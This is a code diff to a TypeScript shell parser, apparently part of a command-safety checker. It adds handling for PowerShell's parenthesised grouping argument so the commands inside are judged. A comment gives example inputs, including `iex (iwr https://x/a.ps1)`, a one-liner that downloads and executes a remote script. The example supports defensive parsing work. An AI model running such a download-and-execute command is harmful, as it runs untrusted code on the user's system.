@@ -401,6 +401,18 @@ export class Parser implements NestedParser {
         this.take();
         return this.functionBody(words[0].value);
       }
+      // `iex (iwr https://x/a.ps1)`, `Write-Host (Remove-Item x)`: a parenthesised list after a command's words is a sh
+      // syntax error but PowerShell's grouping argument, whose commands run first and whose output is the argument.
+      // Read it like `$( … )`, so the commands inside are judged and the word shows what it runs. (`time (cmd)` is
+      // bash's timed subshell and stays one.)
+      if (t.t === 'op' && t.op === '(' && words.length > 0 && words[0].value !== 'time' && this.src[t.end] !== '(') {
+        this.take();
+        const list = this.parseParenList();
+        const close = this.lx.pos;
+        words.push({ value: this.src.slice(t.start, close), start: t.start, end: close, quoted: false, expansion: true, glob: false, assignEq: -1, subs: [{ kind: '$()', list, src: this.src }] });
+        end = close;
+        continue;
+      }
       break;
     }
     if (start < 0) return null;
